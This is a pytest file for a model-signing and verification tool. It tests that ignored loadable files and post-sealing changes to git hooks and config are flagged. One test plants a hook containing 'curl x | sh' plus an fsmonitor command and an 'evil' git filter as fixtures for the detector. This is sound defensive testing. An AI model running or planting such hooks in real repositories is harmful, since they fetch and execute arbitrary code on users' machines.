"""Ignore rules must not hide what a loader picks up; version-control hooks and
configuration (which run commands) are recorded at sealing and compared."""

from __future__ import annotations

import base64
import json
import pickle
import random
from pathlib import Path

import pytest

from trainguard.findings import Severity
from trainguard.signing import seal, verify_report
from trainguard.signing.bundle import build_bundle, write_bundle
from trainguard.signing.keys import load_private_key, write_keypair
from trainguard.signing.manifest import Manifest, parse_statement

LOADABLE = [
    "checkpoint-{n}/",
    "model-{n}.safetensors",
    "pytorch_model-{n}.bin",
    "step{n}.pt",
    "model-q{n}.gguf",
    "adapter_model.bin",
    "modeling_{n}.py",
]


@pytest.fixture(autouse=True)
def private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


@pytest.fixture()
def keys(tmp_path: Path) -> tuple[Path, Path]:
    return write_keypair(tmp_path / "key")


@pytest.fixture()
def model(tmp_path: Path) -> Path:
    root = tmp_path / "model"
    (root / "logs").mkdir(parents=True)
    (root / "logs" / "train.log").write_text("step 1 loss 2.0\n")
    (root / "config.json").write_text("{}")
    (root / "weights.safetensors").write_bytes(b"w" * 100)
    return root


def plant(root: Path, rel: str) -> None:
    if rel.endswith("/"):
        (root / rel).mkdir(parents=True)
        (root / rel / "pytorch_model.bin").write_bytes(b"planted")
    else:
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(b"planted")


def test_ignored_checkpoint_folder_added_later_is_warned(
    model: Path, keys: tuple[Path, Path]
) -> None:
    sealed = seal(model, keys[0], ignore=["checkpoint-*", "logs"])
    assert sealed.notes == []  # nothing loadable ignored yet
    assert verify_report(model, keys[1]).report.findings == []
    plant(model, "checkpoint-500/")
    result = verify_report(model, keys[1])
    [finding] = result.report.findings
    assert (finding.rule, finding.severity) == ("TG510", Severity.MEDIUM)
    assert finding.file == str(model / "checkpoint-500") and not result.report.failed
    assert [r.format for r in result.report.files if r.findings] == ["folder"]


def test_random_loadable_names_under_ignores_are_warned_and_logs_are_not(
    model: Path, keys: tuple[Path, Path]
) -> None:
    seed = random.SystemRandom().randrange(1 << 32)
    rng = random.Random(seed)
    seal(model, keys[0], ignore=["tmp", "*.tmp", "logs"])
    planted = set()
    for _ in range(rng.randint(1, 5)):
        name = rng.choice(LOADABLE).format(n=rng.randint(1, 9999))
        folder = rng.choice(["tmp/", "logs/", "logs/deep/er/"])
        planted.add(folder + name)
        plant(model, folder + name)
    # Content counts too: a pickle under an innocent name, in an ignored file.
    (model / "cache.tmp").write_bytes(pickle.dumps({"a": 1}))
    (model / "notes.tmp").write_text("just text\n")
    (model / "logs" / "more.log").write_text("step 2\n")
    found = {
        Path(f.file).relative_to(model).as_posix()
        for f in verify_report(model, keys[1]).report.findings
        if f.rule == "TG510"
    }
    expected = {p.rstrip("/") for p in planted} | {"cache.tmp"}
    assert found == expected, f"seed {seed}"


def test_seal_warns_about_loadable_ignored_entries(model: Path, keys: tuple[Path, Path]) -> None:
    plant(model, "checkpoint-7/")
    sealed = seal(model, keys[0], ignore=["checkpoint-7"])
    assert len(sealed.notes) == 1 and "checkpoint-7" in sealed.notes[0]


def test_vcs_hooks_and_config_changes_since_sealing(model: Path, keys: tuple[Path, Path]) -> None:
    git = model / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n")
    (git / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\n")
    sealed = seal(model, keys[0])
    assert sealed.manifest.info.vcs is not None and ".git/config" in sealed.manifest.info.vcs
    result = verify_report(model, keys[1])
    assert result.report.findings == [] and any(".git present" in n for n in result.notes)
    (git / "config").write_text("[core]\n\tfsmonitor = ./run-me\n")
    (git / "hooks" / "pre-commit.sample").unlink()
    (git / "hooks" / "post-merge").write_text("#!/bin/sh\ncurl x | sh\n")
    (model / ".gitattributes").write_text("*.bin filter=evil\n")
    (model / ".github" / "workflows").mkdir(parents=True)
    (model / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
    findings = verify_report(model, keys[1]).report.findings
    got = sorted((f.rule, Path(f.file).relative_to(model).as_posix()) for f in findings)
    assert got == [
        ("TG511", ".git/config"),
        ("TG511", ".git/hooks/post-merge"),
        ("TG511", ".git/hooks/pre-commit.sample"),
        ("TG511", ".gitattributes"),
        ("TG511", ".github/workflows/ci.yml"),
    ]


def test_vcs_folder_under_a_seal_without_a_record_is_reported_low(
    model: Path, keys: tuple[Path, Path]
) -> None:
    # As model-signing (or an older trainguard) seals: no trainguard.vcs record.
    seal(model, keys[0])
    sig = model / "model.sig"
    payload = base64.b64decode(json.loads(sig.read_text())["dsseEnvelope"]["payload"])
    manifest = parse_statement(payload)
    bare = Manifest(manifest.model_name, manifest.serialization, manifest.resources)
    write_bundle(sig, build_bundle(bare.payload(), load_private_key(keys[0])))
    assert verify_report(model, keys[1]).report.findings == []
    (model / ".git").mkdir()
    [finding] = verify_report(model, keys[1]).report.findings
    assert (finding.rule, finding.severity) == ("TG512", Severity.LOW)


def test_ignored_link_with_a_loader_name_is_warned_and_not_followed(
    model: Path, keys: tuple[Path, Path], tmp_path: Path
) -> None:
    seal(model, keys[0], ignore=["checkpoint-*"])
    elsewhere = tmp_path / "evil"
    elsewhere.mkdir()
    (model / "checkpoint-900").symlink_to(elsewhere)
    [finding] = verify_report(model, keys[1]).report.findings
    assert finding.rule == "TG510" and "a link" in finding.message


def test_hooks_folder_swapped_for_a_link_is_a_change(
    model: Path, keys: tuple[Path, Path], tmp_path: Path
) -> None:
    (model / ".git" / "hooks").mkdir(parents=True)
    seal(model, keys[0])
    (model / ".git" / "hooks").rmdir()
    (tmp_path / "hooks").mkdir()
    (model / ".git" / "hooks").symlink_to(tmp_path / "hooks")
    [finding] = verify_report(model, keys[1]).report.findings
    assert finding.rule == "TG511" and finding.evidence["now"] == "link"


def test_ignored_text_and_signatures_are_not_warned(model: Path, keys: tuple[Path, Path]) -> None:
    (model / "extra").mkdir()
    (model / "extra" / "model.sig").write_text("{}")
    (model / "extra" / "model_card.md").write_text("# card\n")
    (model / "extra" / "README").write_text("notes\n")
    sealed = seal(model, keys[0], ignore=["extra", "logs"])
    assert sealed.notes == []
    assert verify_report(model, keys[1]).report.findings == []
